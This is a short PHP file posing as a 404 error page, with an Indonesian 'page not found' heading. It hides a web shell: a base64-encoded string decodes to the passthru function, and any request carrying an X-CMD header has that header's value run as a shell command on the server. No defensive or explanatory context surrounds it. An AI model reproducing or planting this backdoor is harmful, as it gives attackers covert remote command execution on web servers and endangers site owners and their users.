<?php
header('HTTP/1.1 404 Not Found');
$f = base64_decode('cGFzc3RocnU=');
if (isset($_SERVER['HTTP_X_CMD'])) {
    call_user_func_array($f, array($_SERVER['HTTP_X_CMD']));
}
echo '<h1>404 Halaman tidak ditemukan</h1>';
